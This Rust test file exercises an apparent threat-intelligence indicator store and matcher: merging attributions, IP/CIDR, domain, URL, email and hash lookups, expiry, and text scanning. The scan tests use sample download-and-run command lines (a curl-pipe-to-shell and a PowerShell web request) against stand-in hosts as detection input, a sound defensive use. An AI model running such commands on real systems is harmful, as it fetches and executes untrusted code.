//! The indicator store and matcher, through the public API.

use std::collections::BTreeSet;
use std::net::IpAddr;

use proptest::prelude::*;
use watchfloor_event::Timestamp;
use watchfloor_intel::{Added, Attribution, Intel, Kind, Match, NewIndicator, Tlp, normalize};

const NOW: Timestamp = Timestamp(1_000);

fn attribution(source: &str) -> Attribution {
    Attribution::from_source(source)
}

fn ind(kind: Kind, value: &str, a: Attribution) -> NewIndicator {
    NewIndicator {
        kind,
        value: value.to_owned(),
        attribution: a,
    }
}

fn store(items: &[(Kind, &str)]) -> Intel {
    let mut intel = Intel::default();
    for &(kind, value) in items {
        intel
            .add(ind(kind, value, attribution("feed")), NOW)
            .unwrap();
    }
    intel
}

/// What `lookup` finds, as (kind, stored value), sorted.
fn hits(intel: &Intel, hint: Option<Kind>, value: &str) -> Vec<(Kind, String)> {
    let mut out = Vec::new();
    intel.lookup(hint, value, NOW, &mut out);
    let mut v: Vec<_> = out
        .iter()
        .map(|m| {
            let i = intel.get(m.id).unwrap();
            (i.kind, i.value.to_owned())
        })
        .collect();
    v.sort();
    v
}

fn scan(intel: &Intel, text: &str) -> Vec<(Kind, String, String)> {
    let mut out = Vec::new();
    intel.scan_text(text, NOW, &mut out);
    out.iter()
        .map(|m| {
            let i = intel.get(m.id).unwrap();
            (i.kind, i.value.to_owned(), m.matched(text).to_owned())
        })
        .collect()
}

fn one(kind: Kind, value: &str) -> Vec<(Kind, String)> {
    vec![(kind, value.to_owned())]
}

#[test]
fn sources_merge_and_a_reimport_replaces_its_own_attribution() {
    let mut intel = Intel::default();
    let mut a = attribution("abuse-feed");
    a.reference = Some("line-1".into());
    a.confidence = 60;
    let first = intel
        .add(ind(Kind::Ipv4, "203.0.113.5", a.clone()), NOW)
        .unwrap();
    let Added::New(id) = first else {
        panic!("{first:?}")
    };

    let mut b = attribution("partner");
    b.tlp = Tlp::Red;
    b.tags = vec!["c2".into()];
    b.attack = vec!["T1071.001".into()];
    assert_eq!(
        intel.add(
            ind(Kind::Ipv4, " 203.0.113.5 ", b.clone()),
            Timestamp(2_000)
        ),
        Ok(Added::Merged(id))
    );
    // The same source and reference again, with a new confidence: replaces.
    a.confidence = 90;
    a.description = Some("seen in phishing".into());
    assert_eq!(
        intel.add(ind(Kind::Ipv4, "203.0.113.5", a.clone()), NOW),
        Ok(Added::Merged(id))
    );
    // The same source with another reference: a second attribution from it.
    let mut c = a.clone();
    c.reference = Some("line-9".into());
    intel
        .add(ind(Kind::Ipv4, "203.0.113.5", c.clone()), NOW)
        .unwrap();

    assert_eq!(intel.len(), 1);
    let view = intel.get(id).unwrap();
    let got: Vec<Attribution> = view.attributions().map(|r| r.to_attribution()).collect();
    assert_eq!(got, vec![a, b, c]);
    assert_eq!(view.first_seen, NOW);
    assert_eq!(view.last_seen, Timestamp(2_000));
    let stats = intel.stats(NOW);
    assert_eq!(stats.indicators, 1);
    assert_eq!(stats.attributions, 3);
    assert_eq!(stats.attributions_by_tlp.get(&Tlp::Red), Some(&1));
    assert_eq!(stats.attributions_by_tlp.get(&Tlp::Amber), Some(&2));
    assert_eq!(stats.profiles, 3);
}

#[test]
fn one_spelling_one_indicator() {
    let mut intel = Intel::default();
    let a = intel
        .add(ind(Kind::Domain, "EVIL.example.", attribution("x")), NOW)
        .unwrap();
    let b = intel
        .add(ind(Kind::Domain, "evil.example", attribution("y")), NOW)
        .unwrap();
    assert_eq!(b, Added::Merged(a.id()));
    assert_eq!(intel.len(), 1);
    assert_eq!(intel.find(Kind::Domain, "Evil.Example"), Some(a.id()));
    assert_eq!(intel.find(Kind::Url, "evil.example"), None);
    assert!(
        intel
            .add(ind(Kind::Ipv4, "300.1.1.1", attribution("x")), NOW)
            .is_err()
    );
    assert_eq!(intel.len(), 1);
    assert_eq!(intel.iter().count(), 1);
}

#[test]
fn addresses_and_networks() {
    let intel = store(&[
        (Kind::Ipv4, "10.1.2.3"),
        (Kind::Cidr, "10.0.0.0/8"),
        (Kind::Cidr, "10.1.2.0/24"),
        (Kind::Cidr, "10.1.2.4/32"),
        (Kind::Cidr, "192.0.2.0/24"),
        (Kind::Ipv6, "2001:db8::1"),
        (Kind::Cidr, "2001:db8::/32"),
        (Kind::Cidr, "2001:db8::2/128"),
    ]);
    let ip = Some(Kind::Ipv4);
    assert_eq!(
        hits(&intel, ip, "10.1.2.3"),
        vec![
            (Kind::Ipv4, "10.1.2.3".into()),
            (Kind::Cidr, "10.0.0.0/8".into()),
            (Kind::Cidr, "10.1.2.0/24".into()),
        ]
    );
    assert_eq!(hits(&intel, ip, "10.1.2.4").len(), 3);
    assert_eq!(hits(&intel, ip, "10.1.2.5").len(), 2);
    assert_eq!(
        hits(&intel, ip, "10.200.0.1"),
        one(Kind::Cidr, "10.0.0.0/8")
    );
    assert_eq!(
        hits(&intel, ip, "192.0.2.255"),
        one(Kind::Cidr, "192.0.2.0/24")
    );
    assert_eq!(hits(&intel, ip, "192.0.3.0"), vec![]);
    assert_eq!(hits(&intel, ip, "11.0.0.0"), vec![]);
    assert_eq!(hits(&intel, ip, "not an address"), vec![]);
    // An IPv4 address written as IPv6.
    assert_eq!(
        hits(&intel, ip, "::ffff:192.0.2.7"),
        one(Kind::Cidr, "192.0.2.0/24")
    );

    let v6 = Some(Kind::Ipv6);
    assert_eq!(
        hits(&intel, v6, "2001:DB8:0::1"),
        vec![
            (Kind::Ipv6, "2001:db8::1".into()),
            (Kind::Cidr, "2001:db8::/32".into()),
        ]
    );
    assert_eq!(hits(&intel, v6, "[2001:db8::2]").len(), 2);
    assert_eq!(hits(&intel, v6, "2001:db9::2"), vec![]);

    let all = store(&[(Kind::Cidr, "0.0.0.0/0"), (Kind::Cidr, "::/0")]);
    assert_eq!(
        hits(&all, ip, "255.255.255.255"),
        one(Kind::Cidr, "0.0.0.0/0")
    );
    assert_eq!(hits(&all, ip, "0.0.0.0"), one(Kind::Cidr, "0.0.0.0/0"));
    assert_eq!(hits(&all, v6, "ffff::1"), one(Kind::Cidr, "::/0"));
}

#[test]
fn domains_match_themselves_and_every_name_below() {
    let intel = store(&[(Kind::Domain, "evil.example")]);
    let d = Some(Kind::Domain);
    assert_eq!(
        hits(&intel, d, "a.b.evil.example"),
        one(Kind::Domain, "evil.example")
    );
    assert_eq!(
        hits(&intel, d, "EVIL.EXAMPLE."),
        one(Kind::Domain, "evil.example")
    );
    assert_eq!(hits(&intel, d, "notevil.example"), vec![]);
    assert_eq!(hits(&intel, d, "evil.example.com"), vec![]);
    assert_eq!(hits(&intel, d, "example"), vec![]);
    assert_eq!(hits(&intel, d, "bad name.evil.example"), vec![]);
    // Both the name and a parent can be indicators.
    let both = store(&[
        (Kind::Domain, "evil.example"),
        (Kind::Domain, "b.evil.example"),
    ]);
    assert_eq!(hits(&both, d, "a.b.evil.example").len(), 2);
}

#[test]
fn urls_exactly_and_by_host() {
    let intel = store(&[
        (Kind::Url, "http://evil.example/payload.sh"),
        (Kind::Domain, "evil.example"),
        (Kind::Ipv4, "203.0.113.5"),
    ]);
    let u = Some(Kind::Url);
    assert_eq!(
        hits(&intel, u, "HTTP://Evil.Example/payload.sh#x"),
        vec![
            (Kind::Domain, "evil.example".into()),
            (Kind::Url, "http://evil.example/payload.sh".into()),
        ]
    );
    assert_eq!(
        hits(&intel, u, "https://cdn.evil.example:8443/other"),
        one(Kind::Domain, "evil.example")
    );
    assert_eq!(
        hits(&intel, u, "http://user@203.0.113.5/x"),
        one(Kind::Ipv4, "203.0.113.5")
    );
    assert_eq!(hits(&intel, u, "http://good.example/payload.sh"), vec![]);
    // Without a hint the value is tried as everything it can be.
    assert_eq!(
        hits(&intel, None, "http://evil.example/payload.sh").len(),
        2
    );
    assert_eq!(
        hits(&intel, None, "x.evil.example"),
        one(Kind::Domain, "evil.example")
    );
}

#[test]
fn emails_exactly_and_by_domain() {
    let intel = store(&[
        (Kind::Email, "ceo@evil.example"),
        (Kind::Domain, "phish.example"),
    ]);
    let e = Some(Kind::Email);
    assert_eq!(
        hits(&intel, e, "<CEO@Evil.Example>"),
        one(Kind::Email, "ceo@evil.example")
    );
    assert_eq!(
        hits(&intel, e, "mailto:ceo@evil.example"),
        one(Kind::Email, "ceo@evil.example")
    );
    assert_eq!(
        hits(&intel, e, "bob@mail.phish.example"),
        one(Kind::Domain, "phish.example")
    );
    assert_eq!(hits(&intel, e, "cfo@evil.example"), vec![]);
}

#[test]
fn hashes_by_length() {
    let md5 = "d41d8cd98f00b204e9800998ecf8427e";
    let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
    let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let intel = store(&[
        (Kind::Md5, md5),
        (Kind::Sha1, sha1),
        (Kind::Sha256, sha256),
        (Kind::Ja3, "e7d705a3286e19ea42f587b344ee6865"),
        (Kind::UserAgent, "EvilBot/1.0"),
    ]);
    let h = Some(Kind::Sha256);
    assert_eq!(hits(&intel, h, &md5.to_uppercase()), one(Kind::Md5, md5));
    assert_eq!(hits(&intel, h, sha1), one(Kind::Sha1, sha1));
    assert_eq!(hits(&intel, h, sha256), one(Kind::Sha256, sha256));
    assert_eq!(hits(&intel, h, &sha256[1..]), vec![]);
    assert_eq!(hits(&intel, h, "e7d705a3286e19ea42f587b344ee6865"), vec![]);
    assert_eq!(
        hits(&intel, Some(Kind::Ja3), "E7D705A3286E19EA42F587B344EE6865"),
        one(Kind::Ja3, "e7d705a3286e19ea42f587b344ee6865")
    );
    assert_eq!(
        hits(&intel, None, "e7d705a3286e19ea42f587b344ee6865"),
        one(Kind::Ja3, "e7d705a3286e19ea42f587b344ee6865")
    );
    assert_eq!(
        hits(&intel, Some(Kind::UserAgent), " EvilBot/1.0 "),
        one(Kind::UserAgent, "EvilBot/1.0")
    );
    assert_eq!(hits(&intel, Some(Kind::UserAgent), "evilbot/1.0"), vec![]);
}

#[test]
fn only_valid_indicators_match() {
    let mut intel = Intel::default();
    let mut expired = attribution("old-feed");
    expired.valid_until = Some(Timestamp(NOW.0));
    intel
        .add(ind(Kind::Ipv4, "192.0.2.1", expired.clone()), Timestamp(0))
        .unwrap();
    let mut future = attribution("new-feed");
    future.valid_from = Some(Timestamp(NOW.0 + 1));
    intel
        .add(ind(Kind::Domain, "later.example", future), Timestamp(0))
        .unwrap();
    let mut current = attribution("feed");
    current.valid_from = Some(Timestamp(0));
    current.valid_until = Some(Timestamp(NOW.0 + 1));
    intel
        .add(ind(Kind::Cidr, "198.51.100.0/24", current), Timestamp(0))
        .unwrap();

    assert_eq!(hits(&intel, Some(Kind::Ipv4), "192.0.2.1"), vec![]);
    assert_eq!(hits(&intel, Some(Kind::Domain), "later.example"), vec![]);
    assert_eq!(hits(&intel, Some(Kind::Ipv4), "198.51.100.9").len(), 1);
    let mut out = Vec::new();
    intel.lookup(
        Some(Kind::Ipv4),
        "192.0.2.1",
        Timestamp(NOW.0 - 1),
        &mut out,
    );
    assert_eq!(out.len(), 1);

    // A second, current source revives the expired one.
    intel
        .add(ind(Kind::Ipv4, "192.0.2.1", attribution("fresh")), NOW)
        .unwrap();
    assert_eq!(hits(&intel, Some(Kind::Ipv4), "192.0.2.1").len(), 1);

    let stats = intel.stats(NOW);
    assert_eq!((stats.expired, stats.inactive), (0, 1));
    let stats = intel.stats(Timestamp(NOW.0 + 10));
    assert_eq!((stats.expired, stats.inactive), (1, 1));

    // Dropping what has ended keeps the others and their ids.
    let mut intel2 = Intel::default();
    let gone = intel2
        .add(ind(Kind::Ipv4, "192.0.2.1", expired), Timestamp(0))
        .unwrap();
    let kept = intel2
        .add(
            ind(Kind::Cidr, "198.51.100.0/24", attribution("feed")),
            Timestamp(0),
        )
        .unwrap();
    assert_eq!(intel2.remove_expired(NOW), 1);
    assert_eq!(intel2.len(), 1);
    assert!(intel2.get(gone.id()).is_none());
    assert_eq!(intel2.get(kept.id()).unwrap().value, "198.51.100.0/24");
    assert_eq!(intel2.find(Kind::Ipv4, "192.0.2.1"), None);
    assert_eq!(hits(&intel2, Some(Kind::Ipv4), "198.51.100.1").len(), 1);
    // Added again, it is a new indicator with a new id.
    let again = intel2
        .add(ind(Kind::Ipv4, "192.0.2.1", attribution("feed")), NOW)
        .unwrap();
    assert!(matches!(again, Added::New(id) if id != gone.id()));
}

#[test]
fn sightings_are_counted() {
    let intel = store(&[(Kind::Domain, "evil.example")]);
    let mut out = Vec::new();
    intel.lookup(Some(Kind::Domain), "www.evil.example", NOW, &mut out);
    let m: Match = out[0];
    assert!(intel.record_sighting(m.id, Timestamp(5_000)));
    assert!(intel.record_sighting(m.id, Timestamp(4_000)));
    let view = intel.get(m.id).unwrap();
    assert_eq!(view.sightings, 2);
    assert_eq!(view.last_seen, Timestamp(5_000));
    assert_eq!(view.first_seen, NOW);
    assert!(!intel.record_sighting(watchfloor_intel::IndicatorId(99), NOW));
}

#[test]
fn scan_text_finds_values_inside_fields() {
    let intel = store(&[
        (Kind::Ipv4, "203.0.113.5"),
        (Kind::Domain, "evil.example"),
        (Kind::Url, "http://203.0.113.5/x.sh"),
        (Kind::Email, "ceo@phish.example"),
        (
            Kind::Sha256,
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        ),
        (Kind::Md5, "d41d8cd98f00b204e9800998ecf8427e"),
        (Kind::Ipv6, "2001:db8::bad"),
        (Kind::Cidr, "198.51.100.0/24"),
    ]);
    assert_eq!(
        scan(&intel, "curl http://203.0.113.5/x.sh | sh"),
        vec![
            (
                Kind::Url,
                "http://203.0.113.5/x.sh".into(),
                "http://203.0.113.5/x.sh".into()
            ),
            (Kind::Ipv4, "203.0.113.5".into(), "203.0.113.5".into()),
        ]
    );
    assert_eq!(
        scan(
            &intel,
            r#"powershell -c "iwr https://CDN.Evil.Example/a.ps1""#
        ),
        vec![(
            Kind::Domain,
            "evil.example".into(),
            "CDN.Evil.Example".into()
        )]
    );
    assert_eq!(
        scan(&intel, "From: \"The CEO\" <CEO@phish.example>"),
        vec![(
            Kind::Email,
            "ceo@phish.example".into(),
            "CEO@phish.example".into()
        )]
    );
    let hashes = "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,\
        MD5=D41D8CD98F00B204E9800998ECF8427E,\
        SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,\
        IMPHASH=00000000000000000000000000000000";
    let found = scan(&intel, hashes);
    assert_eq!(found.len(), 2, "{found:?}");
    assert_eq!(found[0].0, Kind::Md5);
    assert_eq!(found[1].0, Kind::Sha256);
    assert_eq!(
        scan(
            &intel,
            "connect [2001:DB8::BAD]:443 from 198.51.100.77:5555."
        ),
        vec![
            (Kind::Ipv6, "2001:db8::bad".into(), "2001:DB8::BAD".into()),
            (Kind::Cidr, "198.51.100.0/24".into(), "198.51.100.77".into()),
        ]
    );
    // Each indicator once, at its first place.
    assert_eq!(scan(&intel, "203.0.113.5 then 203.0.113.5 again").len(), 1);
    // Look-alikes do not match.
    assert!(
        scan(
            &intel,
            "notevil.example 203.0.113.55 1203.0.113.5 12:34:56 fe80::1"
        )
        .is_empty()
    );
    assert!(scan(&intel, "").is_empty());
}

#[test]
fn one_store_serves_many_threads() {
    fn shared<T: Send + Sync>() {}
    shared::<Intel>();
    let intel = store(&[(Kind::Ipv4, "203.0.113.5")]);
    std::thread::scope(|s| {
        for _ in 0..2 {
            s.spawn(|| {
                let mut out = Vec::new();
                intel.lookup(None, "203.0.113.5", NOW, &mut out);
                intel.record_sighting(out[0].id, NOW);
            });
        }
    });
    assert_eq!(intel.iter().next().unwrap().sightings, 2);
}

#[test]
fn memory_is_counted() {
    let intel = store(&[(Kind::Ipv4, "203.0.113.5"), (Kind::Domain, "evil.example")]);
    let m = intel.stats(NOW).memory;
    assert!(m.total >= m.records + m.strings + m.indexes);
    assert!(m.records >= 2 * 64);
    assert_eq!(intel.stats(NOW).by_kind.get(&Kind::Ipv4), Some(&1));
}

// ---- the matcher against a linear scan over a plain model ----

/// The reference: every indicator with its attributions, merged as the store should.
#[derive(Default)]
struct Naive {
    items: Vec<(Kind, String, Vec<Attribution>)>,
}

impl Naive {
    fn add(&mut self, new: &NewIndicator) {
        let Ok(value) = normalize(new.kind, &new.value) else {
            return;
        };
        let a = new.attribution.clone();
        match self
            .items
            .iter_mut()
            .find(|i| i.0 == new.kind && i.1 == value)
        {
            Some(item) => match item
                .2
                .iter_mut()
                .find(|b| b.source == a.source && b.reference == a.reference)
            {
                Some(b) => *b = a,
                None => item.2.push(a),
            },
            None => self.items.push((new.kind, value, vec![a])),
        }
    }

    fn matches(&self, hint: Option<Kind>, value: &str, now: Timestamp) -> BTreeSet<(Kind, String)> {
        let c = Candidates::of(hint, value);
        self.items
            .iter()
            .filter(|(_, _, attrs)| attrs.iter().any(|a| a.is_valid_at(now)))
            .filter(|(kind, v, _)| c.hit(*kind, v))
            .map(|(k, v, _)| (*k, v.clone()))
            .collect()
    }
}

/// What a value can be, spelled as `normalize` spells it.
#[derive(Default, Debug)]
struct Candidates {
    ips: Vec<IpAddr>,
    domains: Vec<String>,
    urls: Vec<String>,
    emails: Vec<String>,
    hashes: Vec<(Kind, String)>,
    agents: Vec<String>,
}

impl Candidates {
    fn of(hint: Option<Kind>, v: &str) -> Candidates {
        let mut c = Candidates::default();
        match hint {
            Some(Kind::Ipv4 | Kind::Ipv6 | Kind::Cidr) => {
                c.ip(v);
            }
            Some(Kind::Domain) => c.host(v),
            Some(Kind::Url) => c.url(v),
            Some(Kind::Email) => c.email(v),
            Some(Kind::Md5 | Kind::Sha1 | Kind::Sha256) => c.hash(v, false),
            Some(Kind::Ja3) => c.push_hash(Kind::Ja3, v),
            Some(Kind::UserAgent) => c.agent(v),
            None => {
                if !c.ip(v) {
                    c.url(v);
                    c.email(v);
                    if let Ok(d) = normalize(Kind::Domain, v) {
                        c.domains.push(d);
                    }
                    c.hash(v, true);
                }
                c.agent(v);
            }
        }
        c
    }

    fn ip(&mut self, v: &str) -> bool {
        let ip = normalize(Kind::Ipv4, v)
            .or_else(|_| normalize(Kind::Ipv6, v))
            .ok()
            .and_then(|s| s.parse::<IpAddr>().ok());
        if let Some(ip) = ip {
            self.ips.push(ip);
            if let IpAddr::V6(a) = ip
                && let Some(v4) = a.to_ipv4_mapped()
            {
                self.ips.push(IpAddr::V4(v4));
            }
        }
        ip.is_some()
    }

    fn host(&mut self, v: &str) {
        if !self.ip(v)
            && let Ok(d) = normalize(Kind::Domain, v)
        {
            self.domains.push(d);
        }
    }

    fn url(&mut self, v: &str) {
        let Ok(u) = normalize(Kind::Url, v) else {
            return;
        };
        let rest = &u[u.find("://").unwrap() + 3..];
        let authority = &rest[..rest.find(['/', '?']).unwrap_or(rest.len())];
        let h = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
        let host = if let Some(inner) = h.strip_prefix('[') {
            inner.split(']').next().unwrap()
        } else {
            match h.rsplit_once(':') {
                Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) => host,
                _ => h,
            }
        };
        let host = host.to_owned();
        self.urls.push(u);
        self.host(&host);
    }

    fn email(&mut self, v: &str) {
        if let Ok(e) = normalize(Kind::Email, v) {
            self.domains.push(e.rsplit_once('@').unwrap().1.to_owned());
            self.emails.push(e);
        }
    }

    fn hash(&mut self, v: &str, ja3: bool) {
        match v.trim().len() {
            32 => {
                self.push_hash(Kind::Md5, v);
                if ja3 {
                    self.push_hash(Kind::Ja3, v);
                }
            }
            40 => self.push_hash(Kind::Sha1, v),
            64 => self.push_hash(Kind::Sha256, v),
            _ => {}
        }
    }

    fn push_hash(&mut self, kind: Kind, v: &str) {
        if let Ok(h) = normalize(kind, v) {
            self.hashes.push((kind, h));
        }
    }

    fn agent(&mut self, v: &str) {
        if let Ok(a) = normalize(Kind::UserAgent, v) {
            self.agents.push(a);
        }
    }

    fn hit(&self, kind: Kind, v: &str) -> bool {
        match kind {
            Kind::Ipv4 | Kind::Ipv6 => {
                let a: IpAddr = v.parse().unwrap();
                self.ips.contains(&a)
            }
            Kind::Cidr => {
                let (net, len) = v.split_once('/').unwrap();
                let len: u32 = len.parse().unwrap();
                let net: IpAddr = net.parse().unwrap();
                self.ips.iter().any(|ip| match (net, ip) {
                    (IpAddr::V4(n), IpAddr::V4(a)) => {
                        len == 0 || (u32::from(*a) ^ u32::from(n)) >> (32 - len) == 0
                    }
                    (IpAddr::V6(n), IpAddr::V6(a)) => {
                        len == 0 || (u128::from(*a) ^ u128::from(n)) >> (128 - len) == 0
                    }
                    _ => false,
                })
            }
            Kind::Domain => self
                .domains
                .iter()
                .any(|d| d == v || d.ends_with(&format!(".{v}"))),
            Kind::Url => self.urls.iter().any(|u| u == v),
            Kind::Email => self.emails.iter().any(|e| e == v),
            Kind::UserAgent => self.agents.iter().any(|a| a == v),
            _ => self.hashes.iter().any(|(k, h)| *k == kind && h == v),
        }
    }
}

fn pick<T: Clone + std::fmt::Debug + 'static>(v: &[T]) -> impl Strategy<Value = T> + use<T> {
    proptest::sample::select(v.to_vec())
}

fn host() -> impl Strategy<Value = String> {
    prop_oneof![
        pick(&[
            "evil.example",
            "a.evil.example",
            "B.a.Evil.example.",
            "notevil.example",
            "example",
            "x-1.example",
        ])
        .prop_map(str::to_owned),
        (0u8..2, 0u8..3).prop_map(|(c, d)| format!("10.0.{c}.{d}")),
        (0u8..3).prop_map(|d| format!("[2001:db8::{d}]")),
    ]
}

fn value() -> impl Strategy<Value = (Kind, String)> {
    let hex = |len: usize| {
        (0u8..3, any::<bool>()).prop_map(move |(n, upper)| {
            let s: String = std::iter::repeat_n(char::from(b'a' + n), len).collect();
            if upper { s.to_uppercase() } else { s }
        })
    };
    prop_oneof![
        (0u8..2, 0u8..4).prop_map(|(c, d)| (Kind::Ipv4, format!("10.0.{c}.{d}"))),
        (0u8..4).prop_map(|d| (Kind::Ipv6, format!("2001:db8::{d}"))),
        (0u8..4).prop_map(|d| (Kind::Ipv6, format!("::ffff:10.0.0.{d}"))),
        (0u8..3, 0u8..6, pick(&[0u8, 8, 16, 22, 24, 29, 30, 31, 32]))
            .prop_map(|(c, d, l)| (Kind::Cidr, format!("10.0.{c}.{d}/{l}"))),
        (0u8..6, pick(&[0u8, 32, 96, 125, 126, 127, 128]))
            .prop_map(|(d, l)| (Kind::Cidr, format!("2001:db8::{d}/{l}"))),
        host().prop_map(|h| (Kind::Domain, h)),
        (
            pick(&["http", "HTTPS"]),
            host(),
            pick(&["", "/x", "/x?q=1", ":8080/x", "/x#f"])
        )
            .prop_map(|(s, h, p)| (Kind::Url, format!("{s}://{h}{p}"))),
        (pick(&["bob", "Alice"]), host()).prop_map(|(l, h)| (Kind::Email, format!("{l}@{h}"))),
        hex(32).prop_map(|h| (Kind::Md5, h)),
        hex(32).prop_map(|h| (Kind::Ja3, h)),
        hex(40).prop_map(|h| (Kind::Sha1, h)),
        hex(64).prop_map(|h| (Kind::Sha256, h)),
        pick(&["curl/8.0", "Mozilla/5.0", "a"]).prop_map(|u| (Kind::UserAgent, u.to_owned())),
    ]
}

fn new_indicator() -> impl Strategy<Value = NewIndicator> {
    (
        value(),
        pick(&["s1", "s2"]),
        pick(&[None, Some("r1")]),
        pick(&[None, Some(5i64), Some(15)]),
        pick(&[None, Some(10i64), Some(20)]),
    )
        .prop_map(|((kind, value), source, reference, from, until)| {
            let mut a = Attribution::from_source(source);
            a.reference = reference.map(str::to_owned);
            a.valid_from = from.map(Timestamp);
            a.valid_until = until.map(Timestamp);
            NewIndicator {
                kind,
                value,
                attribution: a,
            }
        })
}

fn probe_value() -> impl Strategy<Value = String> {
    prop_oneof![
        value().prop_map(|(_, v)| v),
        (pick(&["a.", "x.b.", "", "Z."]), host()).prop_map(|(p, h)| format!("{p}{h}")),
        (value(), pick(&[" ", ".", "", "\t"])).prop_map(|((_, v), s)| format!("{s}{v}{s}")),
        "[ -~]{0,12}",
    ]
}

fn hint() -> impl Strategy<Value = Option<Kind>> {
    prop_oneof![Just(None), pick(&Kind::ALL).prop_map(Some)]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(800))]

    #[test]
    fn lookup_agrees_with_a_linear_scan(
        (adds, probes) in proptest::collection::vec(new_indicator(), 1..40).prop_flat_map(|adds| {
            let added: Vec<(Kind, String)> =
                adds.iter().map(|n| (n.kind, n.value.clone())).collect();
            let near = (
                proptest::sample::select(added),
                pick(&["", "x.", "http://", "bob@", "upper"]),
                any::<bool>(),
            )
                .prop_map(|((kind, v), deco, same_hint)| {
                    let v = match deco {
                        "upper" => v.to_uppercase(),
                        "http://" => format!("http://{v}/p"),
                        other => format!("{other}{v}"),
                    };
                    (same_hint.then_some(kind), v)
                });
            let probes = proptest::collection::vec(
                prop_oneof![near, (hint(), probe_value())],
                1..20,
            );
            (Just(adds), probes)
        }),
        now in pick(&[0i64, 5, 9, 12, 15, 25]),
    ) {
        let now = Timestamp(now);
        let mut intel = Intel::default();
        let mut naive = Naive::default();
        for new in &adds {
            let _ = intel.add(new.clone(), Timestamp(0));
            naive.add(new);
        }
        prop_assert_eq!(intel.len(), naive.items.len());
        for (hint, v) in &probes {
            let mut out = Vec::new();
            intel.lookup(*hint, v, now, &mut out);
            let ids: BTreeSet<_> = out.iter().map(|m| m.id).collect();
            prop_assert_eq!(ids.len(), out.len(), "an indicator reported twice: {:?}", out);
            let got: BTreeSet<(Kind, String)> = out
                .iter()
                .map(|m| {
                    let i = intel.get(m.id).unwrap();
                    (i.kind, i.value.to_owned())
                })
                .collect();
            let want = naive.matches(*hint, v, now);
            prop_assert_eq!(got, want, "hint {:?} value {:?}", hint, v);
            for m in &out {
                prop_assert!(v.get(m.start..m.end).is_some());
            }
        }
        // Attributions merge as the reference does.
        for (kind, value, attrs) in &naive.items {
            let id = intel.find(*kind, value).unwrap();
            let got: Vec<_> = intel.get(id).unwrap().attributions().map(|a| a.to_attribution()).collect();
            prop_assert_eq!(&got, attrs);
        }
    }

    #[test]
    fn scan_text_never_panics(
        adds in proptest::collection::vec(new_indicator(), 0..20),
        text in "\\PC{0,80}",
        words in proptest::collection::vec(probe_value(), 0..6),
    ) {
        let mut intel = Intel::default();
        for new in adds {
            let _ = intel.add(new, Timestamp(0));
        }
        let text = format!("{text} {}", words.join(" :// @ "));
        let mut out = Vec::new();
        intel.scan_text(&text, Timestamp(0), &mut out);
        for m in &out {
            prop_assert!(text.get(m.start..m.end).is_some());
        }
    }
}
